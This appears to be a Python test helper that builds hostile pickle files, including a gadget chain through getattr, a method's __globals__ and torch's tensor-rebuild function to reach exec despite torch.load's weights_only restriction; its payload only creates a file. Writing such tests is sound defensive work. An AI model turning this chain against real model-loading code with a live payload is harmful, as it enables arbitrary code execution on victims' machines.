"""What hostile and damaged files are made of."""

import json
from collections.abc import Callable
from pathlib import Path

import torch
from mmengine.logging import HistoryBuffer


class Payload:
    """Creates a file when it is unpickled."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        return Path.touch, (self.target,)


class Call:
    """Is pickled as a call of a function, with arguments that may be calls, too."""

    def __init__(self, function: Callable, *args: object) -> None:
        self.function = function
        self.args = args

    def __reduce__(self):
        return self.function, self.args


def attribute(owner: object, *names: str) -> Call:
    """Walk from an object to an attribute of an attribute, as ``builtins.getattr`` would."""
    for name in names:
        owner = Call(getattr, owner, name)
    return owner


def walk_to_exec(target: Path) -> Call:
    """A file is created by getattr alone, and by what ``weights_only=True`` allows of torch.

    From a method to its ``__globals__``, from there to ``exec``. torch's function that
    rebuilds a tensor's subclass calls whatever it is given.
    """
    namespace = attribute(HistoryBuffer.update, '__globals__')
    dict_type = attribute(namespace, '__class__')
    builtins = _call_by_torch(attribute(namespace, 'get'), dict_type, '__builtins__')
    function_type = attribute(builtins, 'get', '__class__')
    run = _call_by_torch(attribute(builtins, 'get'), function_type, 'exec')
    code = f"open({str(target)!r}, 'w').close()"
    return _call_by_torch(run, attribute(None, '__class__'), code)


def _call_by_torch(function: Call, result_type: Call, *args: object) -> Call:
    return Call(torch._tensor._rebuild_from_type_v2, function, result_type, args, None)


def edit(path: Path, change: Callable) -> None:
    """Change the content of a JSON file in place."""
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))
